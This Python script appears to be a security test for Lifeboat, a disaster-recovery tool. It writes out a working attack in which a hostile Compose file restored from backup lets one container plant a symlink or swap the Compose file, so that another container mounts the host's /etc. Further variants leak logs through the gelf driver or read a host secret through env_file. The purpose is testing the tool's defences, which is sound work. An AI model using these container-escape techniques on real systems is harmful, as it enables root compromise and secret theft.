#!/usr/bin/env python3
# Copyright: Lifeboat contributors
# GNU General Public License v3.0 or later (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The attack: who took the stack's host writes a Compose file whose containers are root where it is recovered.

It uses files and command lines only. Every mount of the project lies in the project's directory. But the first service
may write to a directory in which something lies that is read again when the second starts, and replaces it. `link`: the
source of the second's mount, by a link that leads out. `file`: the Compose file, by one that mounts what is outside.
`allowed`: as `link`, and the operator allowed that the one mount contains the other. Two more need no container that
does anything: `log` has the engine send a service's lines to the attacker, `variables` has Compose read a file of the
machine's into a container.

Usage: followed_link.py product|unprotected link|file|allowed|log|variables ROOT

product: the modules of a recovery of a site, from Ansible's command line: one places the files, one starts the
services, twice. unprotected: tar, and `docker compose up`. ROOT stands for the machine's. Exit 0: a container wrote
outside of the project, or something came out of the machine.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import time
from pathlib import Path
from typing import Callable

import ended
from place_files import STACK, write

IMAGE = "lifeboat-lab/base"
PROJECT = f"attacked-link-{os.getpid()}"


def quiet(root: Path, way: str, port: int) -> str:
    """A project that needs no container to do anything: it sends a service's lines on, or reads what is root's."""
    sleep = "exec sleep 300"
    ways: dict[str, dict[str, object]] = {
        "log": {"logging": {"driver": "gelf", "options": {"gelf-address": f"udp://127.0.0.1:{port}"}}},
        "variables": {"env_file": f"{root}/etc/secret"},
    }
    services = {
        "first": {"image": IMAGE, "command": ["sh", "-c", f"touch /w/done; {sleep}"], "volumes": ["./shared:/w"]},
        "second": {"image": IMAGE, "command": ["sh", "-c", f"echo canary; {sleep}"], **ways[way]},
    }
    return json.dumps({"name": PROJECT, "services": services}, indent=1)


def compose(root: Path, way: str) -> tuple[str, str]:
    """The project, and what the attacker makes of it, as the files that Compose reads."""
    first = {
        "link": "rm -rf /w/x && ln -s ../../../etc /w/x",
        "file": "cp /w/other.yml /w/compose.yml",
    }["file" if way == "file" else "link"]
    shared = "." if way == "file" else "./shared"
    sleep = "exec sleep 300"
    second = "touch /x/owned"
    services: dict[str, dict[str, object]] = {
        "first": {"image": IMAGE, "command": ["sh", "-c", f"{first}; touch /w/done; {sleep}"]},
        "second": {"image": IMAGE, "command": ["sh", "-c", f"{second}; {sleep}"]},
    }
    services["first"]["volumes"] = [f"{shared}:/w"]
    services["second"]["volumes"] = ["data:/x"] if way == "file" else ["./shared/x:/x"]
    volumes: dict[str, object] = {"volumes": {"data": {}}} if way == "file" else {}
    text = json.dumps({"name": PROJECT, "services": services, **volumes}, indent=1)
    services["second"]["volumes"] = [f"{root}/etc:/x"]
    return text, json.dumps({"name": PROJECT, "services": services, **volumes}, indent=1)


def up(root: Path, project: Path, service: str) -> None:
    words = ["docker", "compose", "--project-directory", str(project), "up", "--detach", "--no-deps", service]
    subprocess.run(words, check=True, stdout=sys.stderr)


def module(name: str, settings: dict[str, object], **given: object) -> str:
    words = ["ansible", "localhost", "-i", "localhost,", "-c", "local", "-m", f"lifeboat.dr.{name}"]
    words += ["-e", f"ansible_python_interpreter={sys.executable}", "-a", json.dumps({"settings": settings, **given})]
    environment = {**os.environ, "ANSIBLE_CALLBACK_RESULT_FORMAT": "json"}
    done = subprocess.run(words, check=False, capture_output=True, text=True, env=environment)
    print(done.stdout + done.stderr, file=sys.stderr)
    return done.stdout


def waited(path: Path) -> bool:
    for _ in range(100):
        if path.exists():
            return True
        time.sleep(0.1)
    return False


def product(root: Path, way: str, project: Path, folder: Path) -> bool:
    """Whether anything was started."""
    settings: dict[str, object] = {
        "stack": STACK,
        "runtime": {"project_directory": str(project)},
        "database": {"service": "first", "name": "shop"},
        "application": {"timeout": 5},
        "repository": {"type": "local", "path": str(root / "backup")},
        "state_directory": str(root / "var/lib/lifeboat/shop"),
    }
    shared = project / "shared"
    allow = [f"first: may write to {shared}, which contains {shared}/x"] if way == "allowed" else []
    placed = module("config_deploy", settings, id=folder.name, place="repository", allow=allow)
    if way != "allowed" and "reach out of their containers" in placed:
        return False
    for services in ([], ["second"]):
        module("stack_reopen", settings, services=services)
        if not waited(project / "done") and not waited(shared / "done"):
            raise SystemExit("the first service did not do its part, which proves nothing")
    return True


def heard(listener: socket.socket) -> bool:
    """The engine sends it compressed: whatever comes is it."""
    listener.settimeout(10)
    try:
        return bool(listener.recv(1 << 16))
    except socket.timeout:
        return False


def read_out() -> bool:
    words = ["docker", "compose", "--project-name", PROJECT, "ps", "--all", "--quiet", "second"]
    found = subprocess.run(words, check=True, capture_output=True, text=True).stdout.split()
    shown = [
        subprocess.run(["docker", "inspect", one], check=True, capture_output=True, text=True).stdout for one in found
    ]
    return any("of-the-machine" in text for text in shown)


def main() -> int:
    target, way, root = sys.argv[1], sys.argv[2], Path(sys.argv[3]).resolve()
    project = root / "srv/shop"
    (root / "etc").mkdir()
    (root / "etc/secret").write_text("PASSWORD=of-the-machine\n")
    listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    listener.bind(("127.0.0.1", 0))
    got: Callable[[], bool] = lambda: waited(root / "etc/owned")  # noqa: E731 - what the attacker was after
    if way in ("log", "variables"):
        text, other = quiet(root, way, listener.getsockname()[1]), ""
        got = (lambda: heard(listener)) if way == "log" else read_out
    else:
        text, other = compose(root, way)
    own = {"srv/shop/compose.yml": (0o644, text), "srv/shop/other.yml": (0o644, other)}
    folder = write(root, own={**own, "srv/shop/shared/x/.keep": (0o644, "")}, wanted={}, links={})
    try:
        if target == "product":
            if not product(root, way, project, folder):
                return 1
        else:
            subprocess.run(["tar", "-xzpf", str(folder / "config.tar.gz"), "-C", "/"], check=True)
            up(root, project, "first")
            if not waited(project / "done") and not waited(project / "shared/done"):
                raise SystemExit("the first service did not do its part, which proves nothing")
            up(root, project, "second")
        if not (project / "compose.yml").is_file():
            raise SystemExit("the project is not there: this was no recovery")
        return 0 if got() else 1
    finally:
        subprocess.run(["docker", "compose", "--project-name", PROJECT, "down", "--volumes", "--timeout", "0"],
                       check=False, stdout=sys.stderr, stderr=sys.stderr)  # fmt: skip


if __name__ == "__main__":
    ended.end(main)
